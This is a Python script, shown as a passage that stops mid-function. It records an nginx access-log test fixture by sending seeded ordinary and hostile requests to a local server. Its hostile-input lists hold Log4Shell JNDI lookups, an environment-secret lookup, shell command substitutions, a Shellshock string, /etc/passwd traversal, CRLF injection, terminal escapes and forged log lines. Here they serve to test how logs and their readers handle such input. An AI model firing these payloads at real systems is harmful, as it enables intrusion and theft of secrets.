#!/usr/bin/env python3
"""Record tests/data/access.log: a web access log written by a real nginx.

    python3 record.py            start nginx, drive it, check and write access.log
    python3 record.py --check    only parse the access.log that is there

Needs Linux (127.0.0.0/8 as source addresses), nginx 1.21.1 or newer built
with PCRE, and nothing but the Python standard library. nginx runs as a
single process in a temporary directory; all traffic stays on 127.0.0.0/8.

The requests come from a seeded generator, so two recordings differ only in
times, durations and nginx's request ids. The driver knows the bytes it sent,
so every line of the result is parsed and compared with its request.

Over 400 lines because it is one program that stands on nothing but itself.
"""

import base64
import collections
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

SEED = 20000
LINES = 20000
HOSTILE = 600
LIMIT = 6_000_000

HERE = os.path.dirname(os.path.abspath(__file__))
RESULT = os.path.join(HERE, "access.log")

NGINX_CONF = r"""
daemon off;
master_process off;
worker_processes 1;
pid @DIR@/nginx.pid;
error_log @DIR@/error.log error;
events { worker_connections 512; }
http {
    # One line per request. The boundary is cut from the request id, which
    # nginx draws at random when it logs: no client can have known it.
    map $request_id $cut {
        "~^(?<first8>[0-9a-f]+)[0-9a-f]{24}\z" $first8;
    }
    # $remote_user is base64-decoded by nginx and may hold anything, line
    # feeds included. Only a name without spaces and controls is logged.
    map $remote_user $user_name {
        ""                    "-";
        "~^[^\x00-\x20\x7f]+\z" $remote_user;
        default               "?";
    }
    log_format raw escape=none
        '$remote_addr - $user_name [$time_iso8601] $status $body_bytes_sent '
        '$request_time $request_id "$request" $cut "$http_referer" $cut '
        '"$http_user_agent"';
    access_log @DIR@/access.log raw;

    server_tokens off;
    default_type application/octet-stream;
    types {
        text/html html; text/css css; application/javascript js;
        image/webp webp; image/x-icon ico; text/plain txt; video/mp4 mp4;
        application/xml xml;
    }
    client_body_temp_path @DIR@/t1;
    proxy_temp_path @DIR@/t2;
    fastcgi_temp_path @DIR@/t3;
    uwsgi_temp_path @DIR@/t4;
    scgi_temp_path @DIR@/t5;

    keepalive_timeout 600s;
    keepalive_requests 100000;
    client_header_timeout 1s;
    large_client_header_buffers 4 8k;
    client_max_body_size 64k;
    proxy_read_timeout 10s;

    server {
        listen 127.0.0.1:@PORT@;
        server_name shop.example;
        root @DIR@/www;
        index index.html;

        location = /health { return 200 "ok\n"; }
        location = /old-shop { return 301 https://shop.example/; }
        location = /login { return 302 /account; }
        location = /teapot { return 418; }
        location = /boom { return 500; }
        location = /maintenance { return 503; }
        location ^~ /internal/ { deny all; }
        location ~ /\.(git|env|ht) { deny all; }
        location ~ "^/p/1[01][0-9][0-9]-" { try_files /product.html =404; }
        location ~ "^/c/[a-z]+$" { try_files /category.html =404; }
        location = /search { try_files /search.html =404; }
        location = /account { try_files /account.html =404; }
        location /admin/ {
            auth_basic "admin";
            auth_basic_user_file @DIR@/htpasswd;
        }
        location /api/ { proxy_pass http://127.0.0.1:@BACKEND@; }
        location /api/throttled { return 429; }
        location /api/report {
            proxy_read_timeout 100ms;
            proxy_pass http://127.0.0.1:@BACKEND@;
        }
        location /reviews/ { proxy_pass http://127.0.0.1:@DEAD@; }
    }
}
"""

# ---------------------------------------------------------------- the format

HEAD = re.compile(
    rb"([0-9.]+) - ([^\x00-\x20\x7f]+) "
    rb"\[(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d)\] "
    rb"(\d{3}) (\d+) (\d+\.\d{3}) ([0-9a-f]{32}) \""
)
Line = collections.namedtuple(
    "Line", "addr user time status bytes duration id request referer agent"
)


def parse(line):
    """Parse one line (bytes, without its line feed); ValueError if it has not
    the format. This is the rule of README.md."""
    head = HEAD.match(line)
    if not head:
        raise ValueError("fixed fields: %r" % line[:200])
    if len(line) == head.end() or not line.endswith(b'"'):
        raise ValueError("no final quote: %r" % line[-200:])
    boundary = b'" ' + head[7][:8] + b' "'
    free = line[head.end():-1].split(boundary)
    if len(free) != 3:
        raise ValueError("%d free fields: %r" % (len(free), line[:200]))
    return Line(*head.groups(), *free)


def read_log(path):
    with open(path, "rb") as f:
        data = f.read()
    if not data.endswith(b"\n"):
        raise ValueError("the last line has no line feed")
    return data, [parse(x) for x in data[:-1].split(b"\n")]


# ------------------------------------------------------------ what one sends

class Request:
    """The bytes of one request and what the log should say about it."""

    def __init__(self, addr, line, referer=None, agent=None, user=None,
                 headers=(), body=b"", mode="read", delay=0, raw=None, tag=None):
        self.addr, self.line, self.mode, self.delay = addr, line, mode, delay
        self.referer, self.agent, self.tag = referer or b"", agent or b"", tag
        self.user = b"-"
        if raw is not None:
            self.raw = raw
            return
        out = [line, b"Host: shop.example"]
        if agent is not None:
            out.append(b"User-Agent: " + agent)
        out.append(b"Accept: */*")
        if referer is not None:
            out.append(b"Referer: " + referer)
        if user is not None:
            out.append(b"Authorization: Basic " + base64.b64encode(user))
            name = user.partition(b":")[0]
            if name:
                plain = re.fullmatch(rb"[^\x00-\x20\x7f]+", name)
                self.user = name if plain else b"?"
        out.extend(headers)
        if body:
            out.append(b"Content-Length: %d" % len(body))
        self.raw = b"\r\n".join(out) + b"\r\n\r\n" + body

    def expects(self, got):
        """Is `got`, a parsed line, the one this request must have caused?"""
        if got.addr != self.addr.encode():
            return False
        if got.status == b"414":  # nginx logs as much as fits its buffer
            return self.line.startswith(got.request) and len(got.request) > 4000
        if got.request != first_line(self.line):  # a bare CR ends what is logged
            return False
        if got.status in (b"400", b"408", b"505"):  # headers not (all) read
            return (got.user in (self.user, b"-")
                    and got.referer in (self.referer, b"")
                    and got.agent in (self.agent, b""))
        return (got.user == self.user and got.referer == self.referer
                and got.agent == self.agent)


def want(delay_ms, status, size):
    """The (unlogged) header that tells the backend what to answer."""
    return b"X-Want: %d,%d,%d" % (delay_ms, status, size)


CHROME = ("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/%d.0.0.0 %sSafari/537.36%s")
BROWSERS = [
    CHROME % ("Windows NT 10.0; Win64; x64", 126, "", ""),
    CHROME % ("Windows NT 10.0; Win64; x64", 125, "", " Edg/125.0.0.0"),
    CHROME % ("Macintosh; Intel Mac OS X 10_15_7", 126, "", ""),
    CHROME % ("X11; Linux x86_64", 124, "", ""),
    CHROME % ("Linux; Android 10; K", 126, "Mobile ", ""),
    CHROME % ("Linux; Android 10; K", 121, "", " OPR/81.0.0.0"),
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Android 14; Mobile; rv:127.0) Gecko/127.0 Firefox/127.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
]
APPS = ["ShopApp/4.12.1 (Android 14; Pixel 8)", "ShopApp/4.12.0 (iOS 17.5.1; iPhone14,5)",
        "okhttp/4.12.0", "ShopApp/3.9.7 (Android 11; SM-A515F)"]
TOOLS = ["curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3",
         "axios/1.6.8", "Java/17.0.11", "PostmanRuntime/7.39.0"]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
]
SITE = "https://shop.example"
OUTSIDE = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
           "https://news.example/2024/06/best-kettles", "android-app://com.google.android.gm/",
           "https://blog.example/?p=1187", "https://t.co/Zq3xv8Yb1d"]
NOUNS = "kettle lamp teapot mug chair desk shelf clock vase rug bowl tray".split()
COLOURS = "red green blue black white oak steel copper".split()
CATEGORIES = "kitchen lighting furniture textiles garden".split()
WORDS = NOUNS + ["blue+lamp", "te%C3%A9", "oak%20desk", "50%25+off", "caf%C3%A9+cup", "k%C3%BChl"]
USERS = ["alice", "bob", "carol.meyer", "dave@shop.example", "ops-bot", "J\u00fcrgen"]
MODIFIED = 1717200000  # mtime of every static file
MODIFIED_HTTP = b"Sat, 01 Jun 2024 00:00:00 GMT"

STATIC = {  # path: size
    "index.html": 18204, "product.html": 12873, "category.html": 22910,
    "search.html": 9120, "account.html": 5012, "admin/index.html": 3310,
    "admin/orders.html": 7207, "assets/app.4f2a91.js": 91377,
    "assets/vendor.0c77de.js": 148220, "assets/style.9be1.css": 23914,
    "favicon.ico": 1150, "robots.txt": 121, "sitemap.xml": 30412,
    "img/logo.webp": 4410, "video/spring.mp4": 1500000, "docs/index.html": 2400,
}
STATIC.update({"img/p/%d.webp" % n: 2048 + (n * 7919) % 30000 for n in range(1000, 1040)})


class Visitors:
    """Ordinary traffic: browsers, apps, API clients, crawlers and monitors."""

    def __init__(self, rng):
        self.rng = rng
        self.active = []

    def next(self):
        while True:
            while len(self.active) < 16:
                kind = self.rng.choices(
                    [self.browser, self.app, self.tool, self.bot, self.monitor,
                     self.admin], [30, 24, 12, 9, 6, 3])[0]
                addr = "127.0.0.%d" % self.rng.randint(2, 60)
                self.active.append(kind(addr))
            who = self.rng.choice(self.active)
            try:
                return next(who)
            except StopIteration:
                self.active.remove(who)

    def get(self, addr, path, agent, referer=None, method="GET", **more):
        line = "%s %s HTTP/1.1" % (method, path)
        return Request(addr, line.encode(), agent=agent.encode(),
                       referer=None if referer is None else referer.encode(), **more)

    def product(self):
        n = self.rng.randint(1000, 1199)
        return n, "/p/%d-%s-%s" % (n, COLOURS[n % 8], NOUNS[n % 12])

    def browser(self, addr):
        rng, agent, seen = self.rng, self.rng.choice(BROWSERS), set()
        user = rng.choice(USERS) if rng.random() < 0.1 else None
        auth = {"user": (user + ":pw").encode()} if user else {}
        referer = rng.choice(OUTSIDE) if rng.random() < 0.5 else None
        page = rng.choice(["/", "/", "/c/" + rng.choice(CATEGORIES), self.product()[1],
                           "/old-shop"])
        if rng.random() < 0.15:
            page += "?utm_source=newsletter&utm_medium=email&utm_campaign=spring_24"
        for _ in range(rng.randint(2, 7)):
            fresh = rng.random() < 0.2 and page in seen
            yield self.get(addr, page, agent, referer, **auth, headers=(
                [b"If-Modified-Since: " + MODIFIED_HTTP] if fresh else []))
            here = SITE + page.partition("?")[0]
            assets = ["/assets/style.9be1.css", "/assets/app.4f2a91.js",
                      "/assets/vendor.0c77de.js", "/img/logo.webp", "/favicon.ico"]
            again = "/assets/app.4f2a91.js" in seen
            for path in assets:
                if again and rng.random() < 0.85:
                    continue
                yield self.get(addr, path, agent, here, headers=(
                    [b"If-Modified-Since: " + MODIFIED_HTTP] if again else []))
                seen.add(path)
            for _ in range(rng.randint(0, 3)):
                n = rng.randint(1000, 1042)  # the last three do not exist
                yield self.get(addr, "/img/p/%d.webp" % n, agent, here)
            seen.add(page)
            what = rng.random()
            if what < 0.3:
                word = rng.choice(WORDS)
                for end in range(2, min(len(word), 6), 2):
                    if "%" in word[:end + 2]:
                        break
                    yield self.get(addr, "/api/suggest?q=" + word[:end], agent, here,
                                   headers=[want(rng.randint(1, 6), 200, rng.randint(20, 400))])
                referer, page = here, "/search?q=%s&page=%d" % (word, rng.randint(1, 3))
            elif what < 0.6:
                referer, page = here, self.product()[1]
            elif what < 0.75:
                referer, page = here, "/c/" + rng.choice(CATEGORIES)
            elif what < 0.82:
                yield self.get(addr, "/reviews/%d" % rng.randint(1000, 1199), agent, here)
            elif what < 0.87:
                start = rng.randrange(0, 1400000, 1000)
                span = b"Range: bytes=%d-%d" % (start, start + rng.choice([999, 9999, 65535]))
                if rng.random() < 0.1:
                    span = b"Range: bytes=9000000-"
                yield self.get(addr, "/video/spring.mp4", agent, here, headers=[span])
            elif what < 0.9:
                yield self.get(addr, "/api/recommend?for=%d" % self.product()[0], agent, here,
                               headers=[want(2000, 200, 10)], mode="abandon",
                               delay=rng.uniform(0.005, 0.06))
                break
            elif what < 0.97:
                n = self.product()[0]
                yield self.get(addr, "/api/cart/items", agent, here, "POST",
                               body=b'{"sku":%d,"qty":%d}' % (n, rng.randint(1, 3)),
                               headers=[b"Content-Type: application/json",
                                        want(rng.randint(3, 15), 201, 64)])
                if rng.random() < 0.5:
                    status = rng.choices([303, 402, 409, 500, 503], [12, 2, 1, 1, 1])[0]
                    yield self.get(addr, "/api/checkout", agent, SITE + "/cart", "POST",
                                   body=b"pay=card", headers=[want(rng.randint(8, 30), status, 90)])
            else:
                yield self.get(addr, rng.choice(["/login", "/boom", "/maintenance", "/teapot",
                                                 "/account", "/docs", "/docs/missing"]), agent, here)

    def app(self, addr):
        rng, agent = self.rng, self.rng.choice(APPS)
        for _ in range(rng.randint(3, 12)):
            n = self.product()[0]
            method, path, status, size = rng.choice([
                ("GET", "/api/v2/products/%d" % n, 200, 900),
                ("GET", "/api/v2/products?category=%s&limit=%d&offset=%d" % (
                    rng.choice(CATEGORIES), rng.choice([20, 50]), rng.randrange(0, 200, 20)),
                 200, 6200),
                ("GET", "/api/v2/products/%d" % (n + 5000), 404, 48),
                ("GET", "/api/v2/cart", 200, 310),
                ("PUT", "/api/v2/cart/items/%d" % n, 200, 77),
                ("DELETE", "/api/v2/cart/items/%d" % n, 204, 0),
                ("PATCH", "/api/v2/profile", rng.choice([200, 200, 422]), 150),
                ("POST", "/api/v2/events", 202, 0),
                ("GET", "/api/v2/orders/%08x" % rng.getrandbits(32), 200, 1400),
                ("GET", "/img/p/%d.webp" % rng.randint(1000, 1039), 0, 0),
                ("GET", "/img/p/%d.webp" % rng.randint(1000, 1039), 0, 0),
            ])
            if rng.random() < 0.03:
                status = rng.choice([401, 403, 500, 503])
            headers = [want(rng.randint(0, 12), status, size)] if status else []
            if not status and rng.random() < 0.3:
                headers = [b"If-Modified-Since: " + MODIFIED_HTTP]
            yield self.get(addr, path, agent, method=method, headers=headers,
                           body=b'{"n":1}' if method in ("PUT", "PATCH", "POST") else b"")
            if rng.random() < 0.01:
                yield self.get(addr, "/api/throttled", agent)

    def tool(self, addr):
        rng, agent = self.rng, self.rng.choice(TOOLS)
        for _ in range(rng.randint(1, 6)):
            what = rng.random()
            if what < 0.5:
                yield self.get(addr, "/api/v2/stock?sku=%d" % self.product()[0], agent,
                               user=b"partner-%d:key" % rng.randint(1, 4),
                               headers=[want(rng.randint(0, 5), 200, 40)])
            elif what < 0.6:
                big = rng.random() < 0.5
                yield self.get(addr, "/api/v2/import", agent, method="POST",
                               headers=[want(20, 200, 30)] + ([b"Content-Length: 9000000"] if big else []),
                               body=b"" if big else b"x" * rng.randint(100, 4000))
            elif what < 0.7:
                yield self.get(addr, rng.choice(["/", "/docs/", "/c/garden"]), agent,
                               method=rng.choice(["POST", "PUT", "DELETE", "TRACE", "OPTIONS"]))
            elif what < 0.73:
                yield self.get(addr, "/api/report?month=2024-%02d" % rng.randint(1, 6), agent,
                               headers=[want(400, 200, 10)])
            elif what < 0.8:
                yield Request(addr, b"GET /robots.txt HTTP/1.0", agent=agent.encode())
            else:
                yield self.get(addr, rng.choice(["/sitemap.xml", "/internal/metrics", "/",
                                                 "/health", "/api/v2/status"]), agent)

    def bot(self, addr):
        rng, agent = self.rng, self.rng.choice(BOTS)
        yield self.get(addr, "/robots.txt", agent)
        for _ in range(rng.randint(3, 15)):
            path = rng.choice([self.product()[1], self.product()[1], "/p/%d-gone" % rng.randint(100, 900),
                               "/c/" + rng.choice(CATEGORIES), "/old-shop", "/docs"])
            yield self.get(addr, path, agent, method="HEAD" if rng.random() < 0.1 else "GET",
                           headers=[b"If-Modified-Since: " + MODIFIED_HTTP] if rng.random() < 0.3 else [])

    def monitor(self, addr):
        agent = self.rng.choice(["kube-probe/1.29", "Prometheus/2.51.2", "UptimeRobot/2.0"])
        for _ in range(self.rng.randint(4, 20)):
            yield self.get(addr, "/health", agent, method=self.rng.choice(["GET", "GET", "HEAD"]))

    def admin(self, addr):
        rng, agent, name = self.rng, self.rng.choice(BROWSERS), self.rng.choice(USERS)
        yield self.get(addr, "/admin/", agent)
        for _ in range(rng.randint(2, 6)):
            password = "pw" if rng.random() < 0.85 else "wrong"
            yield self.get(addr, rng.choice(["/admin/", "/admin/orders.html", "/admin/none"]), agent,
                           SITE + "/admin/", user=("%s:%s" % (name, password)).encode())


# ------------------------------------------------------------------- hostile

def u(*points):
    return "".join(map(chr, points)).encode("utf-8", "surrogatepass")


FAKE = b'127.0.0.9 - root [2024-06-01T00:00:00+00:00] 200 0 0.000 ' + b"0" * 32 + \
       b' "GET / HTTP/1.1" 00000000 "-" 00000000 "fake"'
PAYLOADS = {
    "quote": [b'"', b'""', b'" "', b'a" "b', b'"-" "-"', b"' OR '1'='1", b'"><script>alert(1)</script>',
              b'x" 200 0 0.000 "', b'" 00000000 "', b'Mozilla/5.0 "quoted" (X11)', b'" 00000000 "x" 00000000 "y',
              b"`id`", b"'", b'" "" "', FAKE],
    "backslash": [b"\\", b'\\"', b"C:\\Windows\\System32\\cmd.exe", b"x\\", b"\\\\\\", b"a\\nb\\r\\nc",
                  b"\\x1b[31m", b"\\u001b[31m", b'\\" "\\', b"\\0"],
    "esc": [b"\x1b[31mred\x1b[0m", b"\x1b[2J\x1b[1;1H", b"\x1b]0;owned\x07", b"\x1b[1A\x1b[2K200 OK",
            b"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", b"\x1b[?1049h", b"\x1b", b"x\x1b[",
            b"\x1bP$q\"p\x1b\\", b"\x1b[38;2;0;0;0;48;2;0;0;0m", b"\x1b[6n", b"\x1b#8", b"\x1bc"],
    "control": [b"\t", b"a\tb\tc", b"\x07\x07", b"secret\x08\x08\x08\x08\x08\x08public", b"\x7f", b"a\x0bb\x0cc",
                b"a\rb", b"\x01\x02\x03", b"\x0e\x0f", b"\x1c\x1d\x1e\x1f", b"level=info\r127.0.0.9 - - fake"],
    "c1": [b"\x9b31mred\x9b0m", u(0x9b) + b"31mred" + u(0x9b) + b"0m", u(0x9d) + b"0;t" + u(0x9c), u(0x85),
           b"\x85", b"\x90q\x9c", u(0x80, 0x9f), b"\x9b2J", u(0x90) + b"$q" + u(0x9c)],
    "invalid": [b"\xff", b"\xff\xfe\xfd", b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xb0\x80",
                b"\xed\xa0\xbd\xed\xb8\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x82", b"\xf0\x9f\x98",
                b"\x80", b"caf\xe9", b"\x83e\x83X\x83g", b"\xc2", b"\xff\xfeh\xc3", b"ok\xc3\x28", b"\xfe\xff"],
    "unicode": [u(0x202e) + b"gnp.exe", u(0x2066) + b"admin" + u(0x2069), u(0x2028), b"a" + u(0x2029) + b"b", u(0xfeff),
                u(0x200b, 0x200d), u(0xe0041, 0xe007f), b"Z" + u(*range(0x300, 0x318)), u(0xffff), u(0x10ffff), u(0xfffd),
                u(0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467), u(0x430) + b"dmin", u(0x6f22, 0x5b57), u(0x5e9, 0x5dc, 0x5d5, 0x5dd),
                u(0x1f600), u(0x202a) + b"x" + u(0x202c), u(0x061c), u(0xa0), u(0xad)],
    "log4shell": [b"${jndi:ldap://127.0.0.1:1389/a}", b"${${lower:j}ndi:${lower:l}dap://x.example/a}",
                  b"${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/z}", b"${env:AWS_SECRET_ACCESS_KEY}",
                  b"${jndi:dns://${hostName}.x.example}", b"%24%7Bjndi:ldap://x.example/a%7D"],
    "template": [b"%s%s%n%x", b"{}", b"{0}", b"{:?}", b"{{7*7}}", b"%d %i", b"$(id)", b"() { :; }; echo vulnerable", b"#{7*7}",
                 b"<%= 7*7 %>", b"{", b"}", b"{message}", b"%", b"%%", b"{}{}{}"],
    "keyvalue": [b"level=error msg=\"disk full\" user=admin", b"a=b c=d", b"=", b"k=", b"=v", b'k="v"', b"level=ERROR",
                 b"time=2024-06-01T00:00:00Z level=fatal", b"a=1,b=2;c=3", b"msg=\"a\\\"b\"", b"status=500 status=200"],
    "json": [b'{"level":"fatal","msg":"x"}', b'{"a":"b\\"c"}', b'{"a":[1,2,{"b":null}]}', b'"}', b'","level":"error","x":"',
             b'{"msg": "two words", "n": 1e999}', b'{"__proto__":{"x":1}}', b"[" * 60],
}
# bytes that make the request line itself invalid for nginx are sent as well
ENCODED = [b"/search?q=a%0ab", b"/search?q=a%0d%0aSet-Cookie:%20x=1", b"/%0a127.0.0.9%20-%20root%20%5b", b"/%0A%1b[31mred",
           b"/p/%u000a", b"/search?q=%1b%5b2J", b"/%00", b"/search?q=%00", b"/search?q=%e2%80%ae", b"/search?q=%ed%a0%80",
           b"/search?q=%ff%fe", b"/%c0%ae%c0%ae/etc/passwd", b"/..%2f..%2fetc/passwd", b"/a/../../etc/passwd", b"/%2e%2e/%2e%2e/",
           b"/search?q=%22%20%22", b"/search?q=%5c%22", b"/%", b"/%zz", b"/search?q=%25%32%32", b"/.git/config", b"/.env",
           b"//evil.example/%2e%2e", b"/wp-login.php", b"/cgi-bin/;sh", b"/search?q=%9b31m", b"/search?q=%c2%9b31m",
           b"/search?q=%0D%0A%0D%0A%3Chtml%3E", b"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
           b"/#fragment", b"/?", b"/search?" + b"&".join(b"k%d=v%d" % (i, i) for i in range(60)), b"http://shop.example/",
           b"http://other.example/?x=\"", b"/search?q=%E2%80%A8", b"/a;b=c/d;e=f", b"/search?q[]=1&q[]=2", b"/~root/", b"*"]
METHODS = [b"get", b"G\"T", b"FOO", b"PROPFIND", b"M-SEARCH", b"CONNECT", b"GET\t", b"A" * 70, b"\x1b[31mGET", b"PRI"]


def client_hello(rng):
    """A TLS 1.2/1.3 ClientHello, as a client sends it to the wrong port."""
    def block(size, data):
        return len(data).to_bytes(size, "big") + data
    name = block(2, b"\x00" + block(2, b"shop.example"))
    extensions = b"".join(kind.to_bytes(2, "big") + block(2, data) for kind, data in [
        (0, name), (10, block(2, b"\x00\x1d\x00\x17\x00\x18")), (11, block(1, b"\x00")),
        (13, block(2, b"\x04\x03\x08\x04\x04\x01\x05\x03")), (16, block(2, b"\x02h2\x08http/1.1")),
        (43, block(1, b"\x03\x04\x03\x03")), (51, block(2, b"\x00\x1d" + block(2, rng.randbytes(32))))])
    hello = (b"\x03\x03" + rng.randbytes(32) + block(1, rng.randbytes(32))
             + block(2, b"\x13\x01\x13\x02\x13\x03\xc0\x2b\xc0\x2f\x00\xff") + b"\x01\x00" + block(2, extensions))
    return b"\x16\x03\x01" + block(2, b"\x01" + block(3, hello))


def first_line(raw):
    return re.split(rb"[\r\n]", raw, maxsplit=1)[0]


def hostile(rng, count):
    """`count` requests that someone would send to confuse a log or its reader."""
    out = []
    agent = BROWSERS[0].encode()

    def addr():
        return "127.0.0.%d" % rng.randint(61, 80)

    def add(tag, line, referer=None, agent=agent, **more):
        out.append(Request(addr(), line, referer, agent, tag=tag, **more))

    def raw(tag, data, mode="read"):
        out.append(Request(addr(), first_line(data), mode=mode, raw=data, tag=tag))

    for tag, payloads in PAYLOADS.items():  # every payload in every place
        for p in payloads:
            add(tag, b"GET / HTTP/1.1", agent=p)
            add(tag, b"GET / HTTP/1.1", referer=b"https://evil.example/?" + p)
            add(tag, b"GET /search?q=" + p + b" HTTP/1.1", referer=rng.choice([None, p]), agent=rng.choice([p, agent]))
    for path in ENCODED:
        add("encoded", b"GET " + path + b" HTTP/1.1")
    for method in METHODS:
        add("method", method + b" / HTTP/1.1")
    for _ in range(12):  # up to what large_client_header_buffers allows, and beyond
        size = rng.choice([1000, 3000, 5000, 7000])
        unit = rng.choice([b"A", b"../", b"%0a", b'"', b"\\", u(0x202e), b"\xff", b"k=v&", b"/0123456789"])
        add("long", b"GET /search?q=" + unit * (size // len(unit)) + b" HTTP/1.1")
    for unit in (b"A", b'" "', b"\x1b[31m", u(0x1f600)):
        add("long", b"GET / HTTP/1.1", agent=unit * (6000 // len(unit)))
    add("long", b"GET /" + b"A" * 9000 + b" HTTP/1.1")
    add("long", b"GET / HTTP/1.1", agent=b"B" * 9000)
    for value in (None, b"", b"-", b" ", b'""'):  # no, empty and odd user agents
        line = b"GET / HTTP/1.1"
        if value == b" ":
            add("empty", line, agent=b"")
        else:
            add("empty", line, agent=value)
            add("empty", line, agent=value, referer=b"")
            add("empty", line, agent=value, referer=b"-")
    for name in (b"root\n" + FAKE, b"a b", b"tab\tname", b'q"uote', b"x] 200", b"[x]", b"\xff\xfe", b"back\\slash", b"\x1b[31m",
                 u(0x202e) + b"nimda", b"nul\x00name", u(0x9b) + b"31m", b"-", b"?", b"", b"a=b", b"\r\n", b"alice\n"):
        add("user", b"GET /admin/ HTTP/1.1", user=name + b":pw")
    for _ in range(6):
        raw("tls", client_hello(rng), "shut")
    for data in (b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
                 b"\x04\x01\x00\x50\x7f\x00\x00\x01\x00\n", b"\x05\x01\x00\n", b"SSH-2.0-Go\r\n", b"\x00\x00\x00\x00\n",
                 b"HELP\r\n", b"GET\r\n\r\n", b"GET /\x00 HTTP/1.1\r\nHost: a\r\n\r\n", b'" "" ""\r\n\r\n', b"GET / HTTP/9.9\r\n\r\n",
                 b"GET / HTTP/1.1 extra\r\nHost: a\r\n\r\n", b"GET / HTTP/2.0\r\nHost: a\r\n\r\n", b"GET / FTP/1.0\r\n\r\n",
                 b'GET / HTTP/1.1" 00000000 "ref" 00000000 "agent\r\nHost: a\r\n\r\n', b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                 b"\xff\xff\xff\xff\r\n", b"\x1b[2J\r\n", b"GET / HTTP/1.1\x1b[31m\r\n\r\n", b"{\"a\":1}\r\n", b"level=info a=b\r\n",
                 b"\xff\xfbG\x00E\x00T\x00\r\n", FAKE + b"\r\n\r\n", b"GET  /  HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n",
                 b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", b"GET /two words HTTP/1.1\r\nHost: a\r\n\r\n",
                 b"*1\r\n$4\r\nPING\r\n", b"stats\r\n", b"\x16\x03\n"):
        raw("malformed", data, "shut")
    for bad in (b"a\x00b", b"\x00"):
        add("nul", b"GET / HTTP/1.1", agent=bad)
        add("nul", b"GET / HTTP/1.1", referer=bad)
    raw("http09", b"GET /\r\n", "shut")
    raw("http09", b"GET /search?q=\"\r\n", "shut")
    for data in (b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: slow", b"GET /slow", b"GET / HTTP/1.1\r\n"):
        raw("partial", data, "shut")  # closes half-way
        raw("partial", data, "read")  # waits until nginx gives up: 408
    fixed = len(out)
    if fixed > count:
        raise SystemExit("%d hostile requests are listed, more than %d" % (fixed, count))
    while len(out) < count:  # the rest: two or three payloads at once
        tags = rng.sample(sorted(PAYLOADS), 3)
        a, b, c = (rng.choice(PAYLOADS[t]) for t in tags)
        path = c if rng.random() < 0.5 and not re.search(rb"[\x00-\x20\x7f]", c) else b""
        add("mixed", b"GET /search?q=" + path + b" HTTP/1.1", referer=a, agent=b + b" " + a)
    rng.shuffle(out)
    return out


def plan(rng):
    attacks = hostile(rng, HOSTILE)
    where = set(rng.sample(range(LINES), len(attacks)))
    visitors = Visitors(rng)
    return [attacks.pop() if i in where else visitors.next() for i in range(LINES)]


# ------------------------------------------------------------------- running

def backend(listener):
    """The application behind nginx: answers what X-Want asks for."""
    def serve(conn):
        with conn:
            try:
                data = b""
                while b"\r\n\r\n" not in data:
                    part = conn.recv(65536)
                    if not part:
                        return
                    data += part
                head, _, body = data.partition(b"\r\n\r\n")
                length = re.search(rb"(?i)\r\nContent-Length: (\d+)", head)
                while length and len(body) < int(length[1]):
                    body += conn.recv(65536)
                found = re.search(rb"(?i)\r\nX-Want: (\d+),(\d+),(\d+)", head)
                delay, status, size = map(int, found.groups()) if found else (0, 200, 2)
                time.sleep(delay / 1000)
                answer = b"HTTP/1.0 %d x\r\nContent-Type: application/json\r\n" % status
                if status != 204:
                    answer += b"Content-Length: %d\r\n" % size
                conn.sendall(answer + b"\r\n" + (b"x" * size if status != 204 else b""))
            except OSError:
                pass
    while True:
        try:
            conn = listener.accept()[0]
        except OSError:
            return
        threading.Thread(target=serve, args=(conn,), daemon=True).start()


class Driver:
    def __init__(self, port, log):
        self.port, self.log, self.open = port, log, {}

    def lines(self):
        """Wait until nginx has logged request number `self.done`."""
        end = time.monotonic() + 10
        while True:
            self.tail += self.log.read()
            if self.tail.count(b"\n") + self.counted >= self.done:
                self.counted += self.tail.count(b"\n")
                self.tail = self.tail[self.tail.rfind(b"\n") + 1:]
                return
            if time.monotonic() > end:
                raise SystemExit("request %d was not logged" % self.done)
            time.sleep(0.001)

    def connect(self, addr):
        s = socket.socket()
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(20)
        s.bind((addr, 0))
        s.connect(("127.0.0.1", self.port))
        return s

    def send(self, s, raw):
        try:
            s.sendall(raw)
        except (BrokenPipeError, ConnectionResetError):
